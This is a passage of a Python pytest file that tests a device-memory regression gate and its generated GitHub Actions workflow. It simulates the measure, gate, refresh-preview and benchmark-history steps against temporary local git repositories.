        "window.BENCHMARK_DATA = " + json.dumps({"run": run, "entries": entries})
    )
    done.append(git(workspace, "add", "devmem/data.js", check=False))
    done.append(git(workspace, "commit", "-m", "add benchmark result", check=False))
    done.append(git(workspace, "push", "origin", "gh-pages:gh-pages", "--no-verify", check=False))
    done.append(git(workspace, "checkout", "-", check=False))
    return done


@pytest.mark.slow  # four devmem commands and two pytest sessions in subprocesses: about 10 s
def test_the_gate_its_refresh_preview_and_the_history_run_in_order_on_a_git_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pull request moves a peak within tolerance: the gate passes, the refresh preview names the
    baseline file it would change (on a copy outside the work tree), and github-action-benchmark's
    `git switch gh-pages` then succeeds even in the gate's own work tree, and in the history job's."""
    pytest.importorskip("pytest_split", reason="pytest-split (the ci extra) runs the measure step")
    for name, value in {
        "GIT_AUTHOR_NAME": "dev",
        "GIT_AUTHOR_EMAIL": "dev@example.com",
        "GIT_COMMITTER_NAME": "dev",
        "GIT_COMMITTER_EMAIL": "dev@example.com",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_NOSYSTEM": "1",
    }.items():
        monkeypatch.setenv(name, value)
    tools = tmp_path / "bin"  # `python` and `devmem` as the steps call them: this interpreter, this checkout
    tools.mkdir()
    (tools / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    (tools / "devmem").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m pytest_devmem.cli "$@"\n')
    for tool in tools.iterdir():
        tool.chmod(0o755)
    env = {
        **os.environ,
        "PATH": f"{tools}{os.pathsep}{os.environ['PATH']}",
        "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]),
        "PYTEST_ADDOPTS": "-p no:hypothesispytest -p no:cacheprovider",
    }
    for name in ("PYTEST_XDIST_WORKER", "PYTEST_XDIST_WORKER_COUNT", "TF_ENABLE_ONEDNN_OPTS", "PYTEST_CURRENT_TEST"):
        env.pop(name, None)
    gate = gate_for_users(["tests"], "sim:16GiB", None, "-e .", "3.11", "main", AT_A_COMMIT)
    jobs = yaml.safe_load(render("devmem.yml", gate))["jobs"]

    # the team's repository: a suite, its baselines, and the history branch
    origin, seed = tmp_path / "origin.git", tmp_path / "seed"
    git(tmp_path, "init", "--bare", "-b", "main", str(origin))
    git(tmp_path, "clone", str(origin), str(seed))
    (seed / "tests").mkdir()
    (seed / "tests" / "test_model.py").write_text(MODEL.format(mib=8))
    record = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "tests",
            "--devmem-mode=prealloc",
            "--devmem-device=sim:16GiB",
            "--devmem-update",
        ],
        cwd=seed,
        env=env,
        capture_output=True,
        text=True,
    )
    assert record.returncode == 0, record.stdout
    git(seed, "add", "tests/test_model.py", "baselines")
    git(seed, "commit", "-m", "a suite and its baselines")
    git(seed, "push", "origin", "main")
    git(seed, "switch", "--orphan", "gh-pages")
    git(seed, "commit", "--allow-empty", "-m", "benchmark history")
    git(seed, "push", "origin", "gh-pages")
    git(seed, "switch", "main")
    (seed / "tests" / "test_model.py").write_text(MODEL.format(mib=8.5))  # +6%: within the 10% tolerance
    git(seed, "commit", "-am", "a slightly larger model")
    git(seed, "push", "origin", "main")

    # measure (its own job, its own checkout)
    measure = tmp_path / "measure"
    git(tmp_path, "clone", str(origin), str(measure))
    suite = step(jobs["measure"], "python -m pytest").replace("${{ strategy.job-total }}", "1")
    done = bash(measure, suite.replace("${{ matrix.part }}", "1"), env)
    assert done.returncode == 0, done.stdout + done.stderr
    out = tmp_path / "runner-temp" / "devmem-report"  # download-artifact's path
    out.mkdir(parents=True)
    for name in ("devmem-part-1.json", "devmem-benchmark-1.json"):
        (out / name).write_bytes((measure / name).read_bytes())

    # gate and refresh preview (the gate job's checkout)
    workspace = tmp_path / "gate"
    git(tmp_path, "clone", str(origin), str(workspace))
    summary = tmp_path / "summary.md"
    gate_env = {**env, "DEVMEM_OUT": str(out), "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_RUN_ID": "7"}
    for words in ("Merge the parts", "Which baseline files"):
        script = step(jobs["gate"], words)
        assert "${{" not in script  # what runs is what is tested
        done = bash(workspace, script, {**gate_env, "PULL_REQUEST": "12"})
        assert done.returncode == 0, (words, done.stdout, done.stderr)
    said = summary.read_text()
    assert "### Device memory: 2 ok" in said
    assert "A refresh would change:\n\n- `baselines/sim-16GiB/tests/test_model.py.json`" in said
    assert (out / "pull-request").read_text().strip() == "12"
    assert git(workspace, "status", "--porcelain", "--ignored").stdout == ""  # the checkout as it was made
    benchmark = out / "devmem-benchmark.json"
    assert {entry["name"] for entry in json.loads(benchmark.read_text())} == {
        "tests/test_model.py::test_model [prealloc]",
        "tests/test_model.py::test_other [prealloc]",
    }

    # the history: github-action-benchmark's git commands, even in the gate's own work tree...
    assert [d.returncode for d in benchmark_action_history(workspace, benchmark, 1)] == [0] * 7
    assert git(workspace, "rev-parse", "--abbrev-ref", "HEAD").stdout.strip() == "main"
    # ... and in the history job's own checkout, as the workflow runs it
    history = tmp_path / "history"
    git(tmp_path, "clone", str(origin), str(history))
    assert [d.returncode for d in benchmark_action_history(history, benchmark, 2)] == [0] * 7
    stored = git(origin, "show", "gh-pages:devmem/data.js").stdout
    assert "tests/test_model.py::test_model [prealloc]" in stored

    # the preview as it was, in the work tree: git refuses to switch, and the history step failed
    done = bash(workspace, f'devmem merge "{out}/devmem-part-1.json" --baselines baselines', env)
    assert done.returncode == 0 and "baseline written" in done.stdout
    refused = benchmark_action_history(workspace, benchmark, 3)
    assert refused[-1].returncode != 0 and "would be overwritten" in refused[-1].stderr


def test_a_preset_workflow_compiles_again_the_entries_a_pull_request_adds_or_edits() -> None:
    """The base branch is fetched and named on pull requests alone; on a push the setting is empty, off."""

    def measure_steps(device: str) -> list[dict]:
        gate = gate_for_users(["tests"], device, None, "-e .", "3.11", "main", AT_A_COMMIT)
        return yaml.safe_load(render("devmem.yml", gate))["jobs"]["measure"]["steps"]  # type: ignore[no-any-return]

    measure = measure_steps("sim:TPU-v5e")
    assert measure[0]["with"]["fetch-depth"] == 0
    run = next(step for step in measure if step.get("name") == "Run the suite with the gate")
    assert run["env"]["DEVMEM_VERIFY_ENTRIES"] == (
        "${{ github.event_name == 'pull_request' && format('origin/{0}', github.base_ref) || '' }}"
    )
    plain = measure_steps("sim:16GiB")
    assert "fetch-depth" not in plain[0]["with"] and "env" not in plain[-2]
